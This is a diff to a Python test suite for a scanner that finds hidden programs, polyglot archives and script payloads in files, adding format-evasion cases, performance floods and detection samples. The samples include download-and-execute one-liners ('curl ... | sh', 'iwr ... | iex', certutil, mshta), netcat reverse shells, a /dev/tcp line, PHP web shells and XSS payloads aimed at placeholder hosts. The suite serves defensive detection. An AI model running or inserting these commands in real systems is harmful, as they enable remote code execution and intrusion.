@@ -5,10 +5,12 @@ from __future__ import annotations
 import base64
 import io
 import mmap
+import re
 import struct
 import sys
 import sysconfig
 import tempfile
+import time
 import zipapp
 import zipfile
 import zlib
@@ -304,6 +306,8 @@ SAMPLES = {
     "elf-real": Sample("elf", real_elf, "POLY-ELF", "EMB-ELF", "ELF 64-bit"),
     "elf-mips": Sample("elf", make_elf32_big_endian, "POLY-ELF", "EMB-ELF",
                        "ELF 32-bit MSB executable, MIPS"),
+    "elf-486": Sample("elf", lambda: altered(make_elf32_big_endian(), 18, b"\0\6"), "POLY-ELF",
+                      "EMB-ELF", "executable, x86"),
     "elf-golfed": Sample("elf", lambda: make_elf32_big_endian(ident=b"\xff\xff\xff"), "POLY-ELF",
                          "EMB-ELF", "MIPS"),
     "elf-object": Sample("elf", make_elf_object, "POLY-ELF", "EMB-ELF", "object, x86-64"),
@@ -370,6 +374,49 @@ SAMPLES = {
     "shell-tcp": Sample("shell", lambda: b"exec 3<>/dev/tcp/192.0.2.1/80", "POLY-SCRIPT-NOSHEBANG",
                         "EMB-SCRIPT", "shell script"),
 }  # fmt: skip
+
+
+SPELLINGS = {
+    "powershell": (
+        b"iwr -useb https://h/a.ps1 | iex", b"irm https://h/a.ps1|iex", b"iex (irm https://h/a)",
+        b"curl -s http://h/a |\tIEX", b"powershell  -nop -enc SQBF", b"pwsh -nologo -enc SQBF",
+        b'"C:\\powershell.exe"\t-c "a"', b"$a = iwr -Uri $u\r\niex $a", b"iex $(iwr http://h)",
+    ),
+    "batch": (
+        b"cmd.exe /c start calc.exe", b"cmd/c start calc", b"cmd  /c  set a=%TEMP%",
+        b"certutil  -urlcache -split -f http://h/a a.exe", b"mshta.exe http://h/a.hta",
+    ),
+    "html_script": (
+        b"<script/src=//h/a.js></script>", b'<script>import("//h/a.js")</script>',
+        b"<img src=x onerror=alert(1)>", b"<svg/onload = 'alert(1)'>", b"<script/>eval(a)",
+        b'<script type="module">', b"<a onmouseover=javascript:a>",
+    ),
+    "php": (b"<?=`$_GET[0]`?>", b"<?=system('id')?>", b"<? @eval($_POST[0]);", b"<?=$_GET[0]?>"),
+    "shell": (
+        b"curl  -s http://h/a | sh", b"wget\t'http://h/a' |sh", b"nc -e /bin/sh 192.0.2.1 4444",
+        b"nc 192.0.2.1 4444 -c  /usr/bin/bash", b"chmod a+x a; base64  -d <b",
+    ),
+    "shebang": (
+        b"#!/usr/bin/env -S sh #\xe9\ntrue\n", b"#!/usr/bin/perl -w\xa0\n", b"#!/bin/sh\r\n",
+    ),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    ("rule", "script"), [(rule, script) for rule, each in SPELLINGS.items() for script in each]
+)
+def test_another_spelling_is_the_same_script(rule: str, script: bytes) -> None:
+    assert rule in {hit.rule for hit in findings(FRONT + script + BACK, len(FRONT))}
+    if b"\n" not in script and rule not in ("shebang", "shell"):
+        wide = script.decode().encode("utf-16-le")
+        assert rule in {hit.rule for hit in findings(FRONT + wide + BACK, len(FRONT))}
+
+
+def test_the_second_word_of_a_utf16_script_may_be_far_from_the_first() -> None:
+    for gap in (10, 3_000, 100_000, 400_000):
+        script = ("New-Object " + "#" * gap + "Net.WebClient").encode("utf-16-le")
+        assert {hit.rule for hit in findings(FRONT + script)} == {"powershell"}
+
 
 FRONT = b"\0\xff\0\x01" * 500
 BACK = b"\x01\0\xff\0" * 25
@@ -471,18 +518,6 @@ def test_the_dos_stub_speaks_only_where_no_pe_does() -> None:
         assert (hit.id, hit.payload.start) == ("EMB-DOS-STUB", len(FRONT))
 
 
-@pytest.mark.parametrize("key", [0x01, 0x20, 0x5A, 0xFF])
-def test_a_pe_under_xor_is_found_whole_and_the_stub_alone_unconfirmed(key: int) -> None:
-    program = xor(real_pe(), key)
-    (hit,) = findings(FRONT + program + BACK)
-    assert hit.id == "EMB-ENC-XOR"
-    assert (hit.payload.start, hit.payload.end) == (len(FRONT), len(FRONT) + len(program))
-    assert hit.payload.description.endswith(f"6 sections, XORed with 0x{key:02X}")
-    assert hit.payload.confirmed
-    (hit,) = findings(FRONT + xor(STUB, key))
-    assert (hit.id, hit.payload.confirmed) == ("EMB-ENC-XOR", False)
-
-
 @pytest.mark.parametrize("shift", [0, 1, 2])
 def test_a_program_in_base64_is_found_at_any_alignment(shift: int) -> None:
     for program in (real_pe()[:4096], real_elf()[:4096]):
@@ -525,6 +560,80 @@ def test_a_zip_followed_by_more_than_padding_is_only_embedded() -> None:
     assert finding(make_zip("a.txt") + b"\0\1", "zip").id == "EMB-ARCHIVE"
 
 
+def spread_zip(*names: str, local: bytes = b"PK\3\4", decoys: int = 0) -> bytes:
+    """A zip whose directory begins with members that lead nowhere and sort before the others."""
+    original = make_zip(*names)
+    directory = original.index(b"PK\1\2")
+    dead = bytearray(original[directory : directory + 46])
+    struct.pack_into("<3H", dead, 28, 1, 0, 0)  # a name of one byte, no extra field, no comment
+    struct.pack_into("<I", dead, 42, 1)
+    end_record = bytearray(original[-22:])
+    size = struct.unpack_from("<I", end_record, 12)[0] + decoys * (len(dead) + 1)
+    struct.pack_into("<I", end_record, 12, size)
+    return (
+        original[:directory].replace(b"PK\3\4", local)
+        + bytes(dead + b"d") * decoys
+        + original[directory:-22]
+        + end_record
+    )
+
+
+def zip_with(offset: int, new: bytes) -> bytes:
+    """A zipapp altered at an offset from its end record."""
+    data = make_zip("__main__.py")
+    return altered(data, len(data) - 22 + offset, new)
+
+
+def zip_with_false_locator() -> bytes:
+    """A ZIP64 locator that leads nowhere, in the comment of the last member."""
+    data, locator = make_zip("__main__.py"), b"PK\6\7" + bytes(12) + b"\1\0\0\0"
+    directory = data.index(b"PK\1\2")
+    body = altered(data[:-22], directory + 32, struct.pack("<H", len(locator))) + locator
+    return body + altered(data[-22:], 12, struct.pack("<I", len(body) - directory))
+
+
+RUNNABLE_ZIPS = {
+    "no member counted": lambda: zip_with(8, bytes(4)),
+    "a comment past the end": lambda: zip_with(20, b"\xff\xff"),
+    "another name in the local header": lambda: altered(make_zip("__main__.py"), 30, b"X"),
+    "a ZIP64 locator to nowhere": zip_with_false_locator,
+    "dead members before": lambda: spread_zip("__main__.py", decoys=200),
+}
+
+
+@pytest.mark.parametrize("make", RUNNABLE_ZIPS.values(), ids=RUNNABLE_ZIPS)
+def test_what_readers_of_a_zip_ignore_hides_no_program(make: Callable[[], bytes]) -> None:
+    data = FRONT + make()
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        assert "__main__.py" in archive.namelist()
+    hit = finding(data, "jar")
+    assert (hit.id, hit.payload.start, hit.payload.end) == ("POLY-JAR", len(FRONT), len(data))
+    assert hit.payload.confirmed
+    assert [hit for hit in findings(data) if hit.rule == "zip"] == []
+
+
+def test_a_directory_without_any_local_header_is_found_but_not_confirmed() -> None:
+    data = spread_zip("a.txt", local=b"PK\3\5")
+    hit = finding(data, "zip")
+    assert (hit.payload.start, hit.payload.confirmed) == (data.index(b"PK\1\2"), False)
+
+
+def test_a_program_by_either_directory_is_a_program() -> None:
+    """Java reads the directory before the end record, Android the one at the record's offset."""
+    program, plain = make_zip("META-INF/MANIFEST.MF"), make_zip("a.txt")
+    for front, behind in ((program, plain), (plain, program)):
+        directory = struct.pack("<I", front.index(b"PK\1\2"))
+        hit = finding(front + altered(behind, len(behind) - 6, directory), "jar")
+        assert "Java archive" in hit.payload.description
+
+
+def test_a_rar_with_a_header_too_long_to_check_is_not_confirmed() -> None:
+    size = 2000
+    block = b"\xd0\x0f" + b"\1\0\0".ljust(size, b"\0")  # the size as a variable-length integer
+    data = b"Rar!\x1a\x07\x01\0" + bytes(4) + block
+    assert not finding(data, "rar").payload.confirmed
+
+
 def test_an_encrypted_rar_reaches_to_the_end_of_its_value() -> None:
     main = struct.pack("<B2H", 0x73, 0x80, 13) + bytes(6)
     data = b"Rar!\x1a\x07\x00" + struct.pack("<H", zlib.crc32(main) & 0xFFFF) + main + b"\xaa" * 99
@@ -565,6 +674,30 @@ def test_a_pdf_whose_objects_lie_far_behind_is_a_polyglot_but_no_payload_elsewhe
     assert findings(bytes(2000) + spread) == []
 
 
+def test_decoys_do_not_hide_the_objects_of_a_pdf() -> None:
+    spread = b"%PDF-1.7\n" + b" obj" * 5000 + b"\n1 0 obj\n<<>>\nendobj\n" + bytes(5000)
+    assert finding(bytes(132) + spread, "pdf").id == "POLY-PDF"
+    near = b"%PDF-1.7\n" + b" obj" * 1000 + b"\n1   0   obj\n<<>>\nendobj\n" + bytes(5000)
+    assert finding(bytes(2000) + near, "pdf").id == "EMB-PDF"
+
+
+def test_a_pdf_at_the_start_is_found_by_a_trailer_anywhere() -> None:
+    spread = b"%PDF-1.7\n" + bytes(2 << 20) + b"startxref\n0\n%%EOF\r\n"
+    hit = finding(bytes(132) + spread + bytes(5000), "pdf")
+    assert (hit.id, hit.payload.end) == ("POLY-PDF", 132 + len(spread))
+
+
+def test_a_pdf_that_is_one_whole_value_is_a_report_and_not_the_file() -> None:
+    report = make_pdf()
+    data = bytes(300) + report + BACK * 100
+    ends = 300 + len(report)
+    assert finding(data, "pdf", 300, ends).id == "EMB-PDF"
+    assert finding(data, "pdf", 300, 310).id == "POLY-PDF"  # the rest of it lies elsewhere
+    assert finding(data, "pdf", 290, ends).id == "POLY-PDF"  # it begins within the value
+    assert finding(data[:ends], "pdf", 300, ends).id == "POLY-PDF"  # nothing follows it
+    assert finding(report + BACK, "pdf", 0, len(report)).id == "POLY-PDF"  # in the preamble
+
+
 def test_an_installer_and_macros_are_named() -> None:
     installer = bytearray(make_ole())
     installer[512 + 80 : 512 + 96] = bytes.fromhex("84100c0000000000c000000000000046")
@@ -582,6 +715,37 @@ def test_a_shortcut_with_reserved_fields_in_use_is_not_confirmed() -> None:
     assert not finding(make_lnk(reserved=1), "lnk").payload.confirmed
 
 
+@pytest.mark.parametrize(
+    ("offset", "new"), [(26, b"\5"), (28, b"\0\0"), (30, b"\xff\xff"), (32, b"\5")]
+)
+def test_an_ole_file_with_an_odd_header_is_found_but_not_confirmed(offset: int, new: bytes) -> None:
+    hit = finding(altered(make_ole(), offset, new), "ole")
+    assert (hit.payload.confirmed, hit.payload.description) == (False, "Word document")
+
+
+def test_a_shortcut_with_undefined_flags_is_not_confirmed() -> None:
+    assert not finding(make_lnk(flags=0x080000A3), "lnk").payload.confirmed
+
+
+def test_an_elf_for_a_machine_that_nobody_knows_is_not_confirmed() -> None:
+    hit = finding(altered(make_elf32_big_endian(), 18, b"\x7f\x7f"), "elf")
+    assert (hit.payload.confirmed, hit.payload.end) == (False, 100)
+    assert "unknown machine" in hit.payload.description
+
+
+def test_a_macho_of_many_load_commands_is_one() -> None:
+    commands = make_macho()[32:104] + struct.pack("<2I", 2, 8) * 2000
+    header = altered(make_macho()[:32], 16, struct.pack("<2I", 2001, len(commands)))
+    assert finding(header + commands, "macho").payload.confirmed
+
+
+def test_a_class_with_a_broken_pool_far_in_reaches_to_the_end_of_its_value() -> None:
+    header = b"\xca\xfe\xba\xbe" + struct.pack(">3H", 0, 61, 1000)
+    data = header + b"\3\0\0\0\0" * 10 + b"\xff" * 50
+    assert finding(data + BACK, "java_class", 0, len(data)).payload.end == len(data)
+    assert findings(header + b"\3\0\0\0\0" * 5 + b"\xff" * 50) == []
+
+
 # --- what must not fire ---------------------------------------------------------------------------
 
 
@@ -597,7 +761,9 @@ NEAR_MISSES: dict[str, tuple[str, bytes]] = {
     ),
     "pe: no sections": ("pe", altered(real_pe(), pe_header(real_pe()) + 6, b"\0\0")),
     "elf: magic alone": ("elf", b"\x7fELF" + bytes(200)),
-    "elf: unknown machine": ("elf", altered(make_elf32_big_endian(), 18, b"\x7f\x7f")),
+    "elf: unknown machine and nothing to load": (
+        "elf", altered(altered(make_elf32_big_endian(), 18, b"\x7f\x7f"), 55, b"\2"),
+    ),
     "elf: program headers of odd size": ("elf", altered(make_elf32_big_endian(), 42, b"\0\x21")),
     "elf: program headers past the end": ("elf", make_elf32_big_endian()[:60]),
     "macho: magic alone": ("macho", b"\xcf\xfa\xed\xfe" + bytes(100)),
@@ -608,18 +774,12 @@ NEAR_MISSES: dict[str, tuple[str, bytes]] = {
     "class: a universal Mach-O": ("java_class", make_universal()),
     "class: unknown constant": ("java_class", altered(make_class(), 10, b"\2")),
     "class: pool past the end": ("java_class", make_class()[:40]),
-    "lnk: undefined flags": ("lnk", make_lnk(flags=0xF80000A3)),
     "lnk: another header size": ("lnk", altered(make_lnk(), 1, b"\1")),
     "lnk: cut short": ("lnk", make_lnk()[:70]),
     "zip: end record of nothing": ("zip", b"PK\5\6" + bytes(18)),
     "zip: end record alone": ("zip", make_zip("a")[-22:]),
-    "zip: directory without local header": (
-        "zip", make_zip("a").replace(b"PK\3\4", b"PK\3\5"),
-    ),
-    "zip: local header of another name": ("zip", altered(make_zip("a"), 30, b"b")),
-    "zip: comment past the end": ("zip", altered(make_zip("a"), len(make_zip("a")) - 2, b"\1\0")),
+    "zip: an entry's signature alone": ("zip", b"PK\1\2" + make_zip("a")[-22:]),
     "zip: a JAR": ("zip", make_zip("META-INF/MANIFEST.MF")),
-    "zip: ZIP64 locator to nowhere": ("zip", make_zip64().replace(b"PK\6\6", b"PK\6\5")),
     "jar: a plain ZIP": ("jar", make_zip("META-INF/manifest.xml")),
     "rar4: wrong checksum": ("rar", altered(make_rar4(), 7, b"\0\0")),
     "rar5: wrong checksum": ("rar", altered(make_rar5(), 8, b"\0\0")),
@@ -629,17 +789,26 @@ NEAR_MISSES: dict[str, tuple[str, bytes]] = {
     "cab: longer than the data": ("cab", make_cab()[:-1]),
     "pdf: header alone": ("pdf", b"%PDF-1.7 is the format of the report"),
     "pdf: an object by name only": ("pdf", b"%PDF-1.7 object, 1 0 objects, 10obj"),
-    "ole: wrong byte order": ("ole", make_ole(byte_order=0xFEFF)),
+    "ole: cut short": ("ole", make_ole()[:60]),
     "shebang: not at the start": ("shebang", b"note: #!/bin/sh\n"),
+    "shebang: a byte that is no blank": ("shebang", b"#!/bin/sh\xe9\n"),
     "shebang: binary": ("shebang", b"#!/2CLIJ\x1d7.66\t0Si/\x14'4E\x0c#"),
     "powershell: mentioned": ("powershell", b"Please run powershell - then call IT"),
+    "powershell: a request alone": ("powershell", b"see iwr -useb in the manual | index"),
     "powershell: one word twice": ("powershell", b"DownloadString( DownloadFile("),
+    "batch: a tool's name": ("batch", b"certutil is not installed"),
     "batch: one word": ("batch", b"path is %TEMP%\\export"),
     "vbs: one word": ("windows_script", b"CreateObject failed"),
     "html: an element of XML": ("html_script", b'<?xml version="1.0"?><ScriptName>a</ScriptName>'),
+    "html: a script of another XML": (
+        "html_script", b'<a1:ExamCard/><Script type="macro">SetProtocol(1)</Script>',
+    ),
+    "html: a handler of nothing": ("html_script", b"onError=Stop"),
     "html: a link": ("html_script", b"javascript:void 0"),
+    "php: a short tag before text": ("php", b"<?= `a` <b> system is down"),
     "php: an XML target": ("php", b"<?phpdoc version='1'?>"),
     "shell: one word": ("shell", b"see curl http://example.org/manual"),
+    "shell: the words of a plot": ("shell", b"div curl - chmod nc - "),
     "shell: a device": ("shell", b"/dev/tcp/ is not a file"),
 }  # fmt: skip
 
@@ -728,7 +897,7 @@ def test_altered_files_never_break_a_validator(
         assert_sound(altered_data, hit, min(len(front), hit), len(altered_data))
 
 
-def zip_flood() -> bytes:
+def zip_flood(records: int) -> bytes:
     """End records that share one directory whose members lead nowhere."""
     member = struct.pack("<4s6H3I5H2I", b"PK\1\2", *[0] * 9, 1000, *[0] * 6) + b"x" * 1000
     front, directory = make_zip("a"), member * 256
@@ -738,7 +907,7 @@ def zip_flood() -> bytes:
         + b"".join(
             b"PK\5\6"
             + struct.pack("<4H2IH", 0, 0, 256, 256, len(directory) + 22 * n, len(front), 0)
-            for n in range(FLOOD)
+            for n in range(records)
         )
     )
 
@@ -756,7 +925,7 @@ FLOODS: dict[str, tuple[str, bytes, Callable[[], bytes]]] = {
     "PE headers behind decoys": (
         "pe", b"PE\0\0", lambda: (b"MZ" * 400 + real_pe()[pe_header(real_pe()) :][:504]) * FLOOD,
     ),
-    "end records of one directory": ("zip", b"PK\5\6", zip_flood),
+    "end records of one directory": ("zip", b"PK\5\6", lambda: zip_flood(FLOOD)),
     "slices of one program": ("macho", b"\xca\xfe\xba\xbe", universal_flood),
     "one word again and again": (
         "windows_script", b"WScript.S", lambda: (b"WScript.Shell " + b"a" * 200) * FLOOD,
@@ -782,6 +951,59 @@ def test_a_flood_of_triggers_costs_seconds(
         if hit < 0:
             break
         VALIDATORS[name](data, hit, 0, len(data))
+
+
+def class_flood() -> bytes:
+    """Class headers in the constants of one another's pools, of which every one ends badly."""
+    magic = b"\xca\xfe\xba\xbe\0\0\0\x34\xff\xff"
+    unit = b"\1" + struct.pack(">H", len(magic)) + magic
+    return (unit * 8 + b"\2") * (REFUSED // 8)
+
+
+def misaligned_pe_flood() -> bytes:
+    """NT headers that no loader takes, each behind many decoys of its MZ header."""
+    original = real_pe()
+    headers = altered(original[pe_header(original) :][:300], 56, b"\1\2\3\4\5\6\7\0")
+    return (b"MZ" * 100 + headers) * REFUSED
+
+
+REFUSED = 50_000
+REFUSALS: dict[str, tuple[str, bytes, Callable[[], bytes]]] = {
+    "PE headers that no loader takes": ("pe", b"PE\0\0", misaligned_pe_flood),
+    "ELF magics": ("elf", b"\x7fELF", lambda: b"\x7fELF" * REFUSED),
+    "class headers in one another": ("java_class", b"\xca\xfe\xba\xbe", class_flood),
+    "end records of one directory": (
+        "jar", b"PK\5\6", lambda: zip_flood(REFUSED),
+    ),
+    "RAR headers of a false checksum": (
+        "rar", b"Rar!", lambda: b"Rar!\x1a\7\1\0aaaa\x80\x07\1\0" * REFUSED,
+    ),
+    "PDF headers in one value": ("pdf", b"%PDF-", lambda: b"%PDF- 1 obj obj 0 " * REFUSED),
+    "one word in UTF-16": (
+        "powershell", b"N\0e\0w\0-\0", lambda: "New-Object ".encode("utf-16-le") * REFUSED,
+    ),
+    "requests without a pipe": ("powershell", b"iwr ", lambda: b"iwr " * REFUSED),
+    "handlers of nothing": ("html", b"onload", lambda: b"onload=a(;" * REFUSED),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize(("name", "trigger", "make"), REFUSALS.values(), ids=REFUSALS)
+def test_a_refusal_costs_microseconds(name: str, trigger: bytes, make: Callable[[], bytes]) -> None:
+    """A few on any machine; twenty are allowed, which a look at the kilobytes around exceeds."""
+    data = make()
+    hits = [match.start() for match in re.finditer(re.escape(trigger), data)][-REFUSED:]
+    assert len(hits) == REFUSED
+    started = time.process_time()
+    assert not any(VALIDATORS[name](data, hit, 0, len(data)) for hit in hits)
+    assert time.process_time() - started < REFUSED * 20e-6
+
+
+def test_what_is_remembered_of_one_data_is_not_told_of_another() -> None:
+    report = bytes(2000) + make_pdf() + bytes(9000)
+    other = bytes(2000) + b"%PDF-1.7\n" + bytes(len(report))
+    for _ in range(2):
+        assert {hit.id for hit in findings(report)} == {"EMB-PDF"}
+        assert findings(other) == []
 
 
 # --- the pack itself ------------------------------------------------------------------------------
@@ -818,7 +1040,7 @@ def test_every_validator_is_used_and_every_one_used_exists() -> None:
 
 
 def test_every_rule_has_something_that_fires_it_and_a_near_miss() -> None:
-    elsewhere = {"dos_stub", "xored_pe", "base64_program", "eicar"}
+    elsewhere = {"dos_stub", "base64_program", "eicar"}
     assert {sample.rule for sample in SAMPLES.values()} == set(metas()) - elsewhere
     assert {rule for rule, _ in NEAR_MISSES.values()} == set(metas()) - elsewhere
 
